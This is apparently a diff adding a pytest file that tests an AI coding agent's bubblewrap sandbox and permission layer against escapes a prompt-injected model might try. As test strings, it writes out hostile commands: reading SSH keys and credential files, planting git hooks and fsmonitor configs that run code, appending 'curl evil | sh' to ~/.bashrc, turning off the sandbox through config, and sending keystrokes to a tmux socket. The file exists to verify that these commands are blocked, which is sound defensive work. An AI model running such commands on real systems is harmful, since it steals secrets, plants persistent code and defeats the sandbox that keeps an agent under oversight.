@@ -1,0 +1,477 @@
+"""The escapes an attack pass found in the sandbox (issue 25), each written as the command a
+prompt-injected model would send, run with the real bubblewrap as root (this machine and
+CI) and as an ordinary user (uid 1000 through ``setpriv``: bwrap then runs unprivileged,
+as on a laptop). Each failed on the code before the fix.
+
+The user runs need a folder uid 1000 can reach: a temporary folder of its own under /tmp
+(removed after), not pytest's (mode 700, root's)."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import socket
+import subprocess
+import tempfile
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from conftest import needs_bwrap, write
+
+from tui_agent import ApprovalRequest, Decision, create_session
+from tui_agent.core import paths
+from tui_agent.core.approval import headless_approver
+from tui_agent.sandbox import Sandbox
+
+USER = 1000
+WHO = ["root", "user"]
+SETPRIV = shutil.which("setpriv")
+
+
+class Place:
+    """Where one attack runs: a HOME and a project, owned by ``uid``; ``box`` builds the
+    sandbox for a folder there, ``run`` runs a command in it as that user."""
+
+    def __init__(self, base: Path, uid: int, monkeypatch: pytest.MonkeyPatch) -> None:
+        self.base, self.uid = base, uid
+        self.home = base / "home"
+        self.project = base / "project"
+        self.tmp = base / "sandbox-tmp"
+        for folder in (self.home, self.project, self.tmp):
+            folder.mkdir(parents=True, exist_ok=True)
+        monkeypatch.setenv("HOME", str(self.home))
+        for var, sub in [
+            ("XDG_CONFIG_HOME", ".config"),
+            ("XDG_DATA_HOME", ".local/share"),
+            ("XDG_STATE_HOME", ".local/state"),
+            ("XDG_CACHE_HOME", ".cache"),
+        ]:
+            monkeypatch.setenv(var, str(self.home / sub))
+
+    def git_init(self) -> None:
+        git(self.project, "init", "-q")
+        git(self.project, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q",
+            "--allow-empty", "-m", "first")  # fmt: skip
+
+    def own(self) -> None:
+        """Everything made so far belongs to the user (as root: nothing to do)."""
+        if self.uid:
+            for path in [self.base, *self.base.rglob("*")]:
+                os.lchown(path, self.uid, self.uid)
+
+    def git(self, *args: str) -> subprocess.CompletedProcess[str]:
+        """git in the project, run by the user from outside (their next ``git status``)."""
+        argv = ["git", "-C", str(self.project), *args]
+        return subprocess.run(
+            as_user(argv, self.uid) if self.uid else argv, capture_output=True, text=True
+        )
+
+    def box(self, folder: Path | None = None, **settings: Any) -> Sandbox:
+        made = Sandbox.of({"sandbox": settings} if settings else {}, self.project)
+        made.home, made.tmp, made.folder = self.home, self.tmp, folder
+        return made
+
+    def run(self, box: Sandbox, command: str, workdir: Path | None = None) -> tuple[int, str]:
+        self.own()
+        where = workdir or box.folder or box.worktree
+        with box.command(["bash", "-c", command], where) as (argv, env):
+            if self.uid:
+                argv = as_user(argv, self.uid)
+            done = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=60)
+        return done.returncode, done.stdout + done.stderr
+
+
+def as_user(argv: list[str], uid: int) -> list[str]:
+    """bwrap's command line as the user runs it: unprivileged, so no ``--uid`` (bwrap maps
+    the user to itself), started through setpriv."""
+    assert SETPRIV is not None
+    kept = list(argv)
+    if "--uid" in kept:
+        for flag in ("--uid", "--gid"):
+            at = kept.index(flag)
+            del kept[at : at + 2]
+    ids = ["--reuid", str(uid), "--regid", str(uid), "--clear-groups"]
+    return [SETPRIV, *ids, *kept]
+
+
+def git(where: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(["git", "-C", str(where), *args], capture_output=True, text=True)
+
+
+@pytest.fixture(params=WHO)
+def place(
+    request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> Iterator[Place]:
+    if request.param == "root":
+        yield Place(tmp_path / "root", 0, monkeypatch)
+        return
+    if os.geteuid() != 0:
+        pytest.skip("the uid 1000 runs need root to switch users; this run is not root")
+    if SETPRIV is None:
+        pytest.skip("the uid 1000 runs need setpriv (util-linux), which is missing here")
+    base = Path(tempfile.mkdtemp(prefix="tui-agent-attack-"))
+    try:
+        os.chmod(base, 0o755)
+        yield Place(base, USER, monkeypatch)
+    finally:
+        shutil.rmtree(base, ignore_errors=True)
+
+
+# -- 1. root keeps no capabilities -------------------------------------------------------------
+
+
+@needs_bwrap
+def test_no_capabilities_and_nothing_unmounted(place: Place) -> None:
+    write(place.home / ".ssh" / "id_rsa", "PRIVATE-KEY-CANARY\n")
+    place.git_init()
+    me = os.getpid()
+    _status, said = place.run(
+        place.box(),
+        "grep CapEff /proc/self/status;"
+        " umount ~/.ssh; cat ~/.ssh/id_rsa;"
+        " mount -o remount,bind,rw ~ ; touch ~/pwned;"
+        " umount .git/hooks; echo evil > .git/hooks/pre-commit;"
+        f" umount /proc; test -e /proc/{me}/cmdline && echo AGENT-VISIBLE;"
+        " unshare -r sh -c 'umount ~/.ssh; cat ~/.ssh/id_rsa' ; true",
+    )
+    assert "CapEff:\t0000000000000000" in said, said
+    assert "PRIVATE-KEY-CANARY" not in said
+    assert not (place.home / "pwned").exists()
+    assert not (place.project / ".git" / "hooks" / "pre-commit").exists()
+    assert "AGENT-VISIBLE" not in said  # the agent's own process stays out of sight
+
+
+# -- 2. .git cannot redirect git to code -------------------------------------------------------
+
+
+@needs_bwrap
+def test_git_internals_cannot_point_git_at_code(place: Place) -> None:
+    place.git_init()
+    canary = place.base / "PWNED"
+    evil = f"[core]\n\tfsmonitor = touch {canary}\n"
+    write(place.project / "evil" / "config", evil)
+    box = place.box()
+    _status, said = place.run(
+        box,
+        'echo "$PWD/evil" > .git/commondir;'
+        f" printf '{evil}' > .git/config.worktree;"
+        f" printf '{evil}' > .git/info/attributes;"
+        " mkdir -p .git/worktrees/x && echo evil > .git/worktrees/x/commondir;"
+        " echo '[include] path = ../evil/config' >> .git/config; true",
+    )
+    _, said = place.run(box, "git -c user.name=t -c user.email=t@t commit -q --allow-empty -m 2")
+    assert said == "", said  # everyday git still works
+    git_dir = place.project / ".git"
+    assert not (git_dir / "commondir").exists() and not (git_dir / "config.worktree").exists()
+    assert (git_dir / "commondir.made-in-sandbox-1").exists()
+    assert any("commondir" in line and "moved to" in line for line in box.restored)
+    assert not (git_dir / "worktrees").exists()
+    assert "evil" not in (git_dir / "config").read_text()
+    assert not (git_dir / "info" / "attributes").exists()
+    # the user's next git status runs nothing
+    assert place.git("status", "--short").returncode == 0
+    assert not canary.exists()
+    assert place.git("log", "--oneline").stdout.count("\n") == 2
+
+
+@needs_bwrap
+def test_a_submodules_config_is_read_only(place: Place) -> None:
+    place.git_init()
+    module = place.project / ".git" / "modules" / "lib"
+    write(module / "HEAD", "ref: refs/heads/main\n")
+    write(module / "config", "[core]\n\tbare = false\n")
+    (module / "hooks").mkdir()
+    _status, _said = place.run(
+        place.box(),
+        "echo '[core] fsmonitor = touch /x' >> .git/modules/lib/config;"
+        " echo evil > .git/modules/lib/hooks/post-checkout;"
+        " echo /elsewhere > .git/modules/lib/commondir; true",
+    )
+    assert "fsmonitor" not in (module / "config").read_text()
+    assert not (module / "hooks" / "post-checkout").exists()
+    assert not (module / "commondir").exists()
+
+
+# -- 4. the agents' config is read-only at every level -----------------------------------------
+
+
+@needs_bwrap
+def test_a_sub_projects_config_cannot_be_changed_or_made(place: Place) -> None:
+    place.git_init()
+    pkg = place.project / "pkg"
+    write(pkg / ".tui-agent" / "config.toml", "# mine\n")
+    box = place.box(folder=pkg)
+    before = sorted(str(p) for p in place.project.rglob("*") if ".git/" not in str(p))
+    _status, _said = place.run(
+        box,
+        "printf '[sandbox]\\nenabled = false\\n' >> .tui-agent/config.toml;"
+        " for d in . ..; do"
+        "   mkdir -p $d/.claude && echo '{\"hooks\": {}}' > $d/.claude/settings.json;"
+        "   mkdir -p $d/.vscode && echo '{}' > $d/.vscode/tasks.json;"
+        "   mkdir -p $d/.gemini $d/.codex $d/.opencode $d/.agents/plugins;"
+        "   echo x > $d/.codex/config.toml; echo x > $d/.agents/plugins/x.py;"
+        "   echo '{\"mcpServers\": {}}' > $d/.mcp.json;"
+        " done; true",
+    )
+    assert (pkg / ".tui-agent" / "config.toml").read_text() == "# mine\n"
+    for level in (pkg, place.project):
+        assert not (level / ".mcp.json").exists()
+        assert (level / ".mcp.json.made-in-sandbox-1").exists()
+        for name in (".claude", ".vscode", ".gemini", ".codex", ".opencode", ".agents"):
+            assert not (level / name).exists(), level / name
+    after = sorted(
+        str(p)
+        for p in place.project.rglob("*")
+        if ".git/" not in str(p) and "made-in-sandbox" not in str(p)
+    )
+    assert after == before
+    assert sum(".mcp.json" in line for line in box.restored) == 2
+
+
+# -- 5. Unix sockets outside are masked ----------------------------------------------------------
+
+
+class Listener:
+    """A Unix socket server outside the sandbox (the user's tmux, a database) that
+    records what reaches it."""
+
+    def __init__(self, path: Path) -> None:
+        path.parent.mkdir(parents=True, exist_ok=True)
+        self.path = path
+        self.got: list[bytes] = []
+        self.server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        self.server.bind(str(path))
+        os.chmod(path, 0o777)  # so only the sandbox stands in the way
+        self.server.listen()
+        self.server.settimeout(0.2)
+        self.stop = threading.Event()
+        self.thread = threading.Thread(target=self.serve, daemon=True)
+        self.thread.start()
+
+    def serve(self) -> None:
+        while not self.stop.is_set():
+            try:
+                client, _ = self.server.accept()
+            except OSError:
+                continue
+            with client:
+                client.settimeout(2)
+                try:
+                    self.got.append(client.recv(100))
+                except OSError:
+                    pass
+
+    def close(self) -> None:
+        self.stop.set()
+        self.thread.join()
+        self.server.close()
+
+
+CONNECT = (
+    'python3 -c "import socket; s = socket.socket(socket.AF_UNIX);'
+    " s.connect('{path}'); s.sendall(b'send-keys PWNED'); print('SENT')\""
+)
+OWN = (
+    "python3 -c \"import socket; a = socket.socket(socket.AF_UNIX); a.bind('/tmp/own.sock');"
+    " a.listen(); b = socket.socket(socket.AF_UNIX); b.connect('/tmp/own.sock');"
+    " b.sendall(b'x'); c, _ = a.accept(); print('OWN', c.recv(1))\""
+)
+
+
+@needs_bwrap
+def test_unix_sockets_outside_are_masked(place: Place) -> None:
+    listener = Listener(place.home / ".tmux" / "default")
+    try:
+        place.own()
+        status, said = place.run(place.box(), CONNECT.format(path=listener.path))
+        assert status != 0 and "SENT" not in said and listener.got == [], said
+        assert "ConnectionRefused" in said
+        # its own sockets work
+        status, said = place.run(place.box(), OWN)
+        assert status == 0 and "OWN b'x'" in said, said
+        # unix_sockets names the ones it may use
+        allowed = place.box(unix_sockets=[str(listener.path)])
+        status, said = place.run(allowed, CONNECT.format(path=listener.path))
+        assert status == 0 and "SENT" in said, said
+        for _ in range(50):
+            if listener.got:
+                break
+            threading.Event().wait(0.05)
+        assert listener.got == [b"send-keys PWNED"]
+    finally:
+        listener.close()
+
+
+# -- 6. HOME (or above) as the session's folder --------------------------------------------------
+
+
+@needs_bwrap
+def test_home_as_the_folder_is_not_writable(place: Place) -> None:
+    write(place.home / ".bashrc", "# mine\n")
+    box = place.box()
+    box.worktree = place.home
+    before = sorted(p.name for p in place.home.iterdir())  # (.cache: the agent's own locks)
+    _status, said = place.run(
+        box,
+        "echo 'curl evil | sh' >> ~/.bashrc; echo x > notes.txt; mkdir .tui-agent;"
+        " echo '[sandbox]' > ~/.config/tui-agent/config.toml; ls ~ > /dev/null && echo READ",
+        workdir=place.home,
+    )
+    assert "READ" in said  # reading still works
+    assert (place.home / ".bashrc").read_text() == "# mine\n"
+    assert sorted(p.name for p in place.home.iterdir() if p.name != ".cache") == before
+    note = box.note(said)
+    assert note is not None and "home folder" in note and "!!command" in note
+    # the same for a folder above HOME (here: the one HOME is in)
+    above = place.box()
+    above.worktree = place.base
+    assert above.home_exposed and "home folder" in above.describe()
+    place.run(above, "echo x > escaped.txt", workdir=place.base)
+    assert not (place.base / "escaped.txt").exists()
+
+
+# -- more hidden by default ----------------------------------------------------------------------
+
+
+@needs_bwrap
+def test_more_credentials_histories_and_our_state_are_hidden(
+    place: Place, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    xdg = place.base / "xdg-config"  # XDG_CONFIG_HOME pointing away from ~/.config
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(xdg))
+    canaries = [
+        place.home / ".npmrc",
+        place.home / ".yarnrc.yml",
+        place.home / ".cargo" / "credentials.toml",
+        place.home / ".claude" / ".credentials.json",
+        place.home / ".bash_history",
+        place.home / ".zsh_history",
+        place.home / ".python_history",
+        place.home / ".config" / "gh" / "hosts.yml",
+        place.home / ".config" / "someapp" / "credentials.json",
+        xdg / "gh" / "hosts.yml",
+        xdg / "other" / "credentials",
+        paths.user_data_dir() / "sessions" / "other.jsonl",
+        Path(os.environ["XDG_CACHE_HOME"]) / "tui-agent" / "sandbox-tmp" / "other" / "x",
+    ]
+    for n, canary in enumerate(canaries):
+        write(canary, f"CANARY-{n}\n")
+    write(place.home / ".claude" / "settings.json", "VISIBLE\n")  # not a credential
+    place.git_init()
+    _status, said = place.run(
+        place.box(),
+        " ".join(f"cat {c} 2>/dev/null;" for c in canaries) + " cat ~/.claude/settings.json",
+    )
+    assert "CANARY" not in said, said
+    assert "VISIBLE" in said
+
+
+# -- errors that say why -------------------------------------------------------------------------
+
+
+@needs_bwrap
+async def test_notes_name_the_rule_and_the_way_out(project: Path, isolated_home: Path) -> None:
+    subprocess.run(["git", "init", "-q", str(project)], check=True, capture_output=True)
+    write(isolated_home / ".ssh" / "id_rsa", "KEY\n")
+    session = create_session(project)
+    assert session.sandbox.active
+
+    async def note(command: str) -> str:
+        result = (await session.toolbox.run("execute", {"command": command})).to_dict()
+        assert result["exit_status"] != 0, result
+        return str(result.get("sandbox", ""))
+
+    said = await note("git config user.name x")
+    assert "protected" in said and ".git/config" in said and "!!command" in said
+    said = await note("cat ~/.ssh/id_rsa")
+    assert "hidden" in said and "id_rsa" in said
+    said = await note("/tmp/tools/mytool --version")
+    assert "private /tmp" in said
+    listener = Listener(isolated_home / "db.sock")
+    try:
+        said = await note(CONNECT.format(path=listener.path))
+        assert "Unix sockets" in said and "unix_sockets" in said
+    finally:
+        listener.close()
+    session.transcript.journal.close()
+
+
+# -- 7. the permission layer: the same list, always asked ------------------------------------
+
+
+class Recorder:
+    def __init__(self, answer: str) -> None:
+        self.answer = answer
+        self.requests: list[ApprovalRequest] = []
+
+    async def __call__(self, request: ApprovalRequest) -> Decision:
+        self.requests.append(request)
+        return Decision(self.answer)  # type: ignore[arg-type]
+
+
+@pytest.mark.real_permissions
+@pytest.mark.parametrize("how", ["auto-edit", "write-allow"])
+async def test_writing_agent_config_is_always_asked(project: Path, how: str) -> None:
+    config = paths.user_config_dir() / "config.toml"
+    write(config, '[permission]\nwrite = "allow"\nedit = "allow"\n' if how == "write-allow" else "")
+    session = create_session(project)
+    if how == "auto-edit":
+        session.set_mode("auto-edit")
+    recorder = Recorder("deny")
+    session.approver = recorder
+    targets = [
+        ".claude/settings.json",
+        ".mcp.json",
+        ".vscode/tasks.json",
+        ".gemini/settings.json",
+        ".codex/config.toml",
+        ".opencode/plugin/x.ts",
+        "pkg/.claude/settings.json",
+        "pkg/.tui-agent/config.toml",
+    ]
+    for target in targets:
+        result = await session.toolbox.run("write", {"path": target, "content": "{}"})
+        assert result.to_dict().get("error"), target
+        assert not (project / target).exists(), target
+    assert [r.subject for r in recorder.requests] == targets
+    # an ordinary file is still written without asking
+    result = await session.toolbox.run("write", {"path": "src/a.py", "content": "x = 1\n"})
+    assert not result.to_dict().get("error") and len(recorder.requests) == len(targets)
+    session.transcript.journal.close()
+
+
+@pytest.mark.real_permissions
+async def test_deny_still_wins_for_agent_config(project: Path) -> None:
+    write(
+        paths.user_config_dir() / "config.toml",
+        '[permission]\nwrite = { "*" = "allow", ".claude/*" = "deny" }\n',
+    )
+    session = create_session(project)
+    recorder = Recorder("once")
+    session.approver = recorder
+    result = (
+        await session.toolbox.run("write", {"path": ".claude/x.json", "content": "{}"})
+    ).to_dict()
+    assert "Permission denied" in str(result.get("error")) and recorder.requests == []
+    session.transcript.journal.close()
+
+
+@pytest.mark.real_permissions
+async def test_a_headless_denial_says_nobody_was_asked(project: Path) -> None:
+    session = create_session(project)
+    session.approver = headless_approver(False)
+    result = (await session.toolbox.run("write", {"path": "a.txt", "content": "x"})).to_dict()
+    error = str(result.get("error"))
+    assert "nobody was asked" in error and "--yes" in error and "[permission]" in error, error
+    assert "User denied" not in error
+    session.transcript.journal.close()
+
+
+def test_the_protected_list_is_one_list() -> None:
+    from tui_agent.core import permissions, sandbox
+
+    assert set(paths.AGENT_CONFIG) <= set(permissions.PROTECTED)
+    assert set(paths.AGENT_CONFIG) <= set(sandbox.PROTECTED)
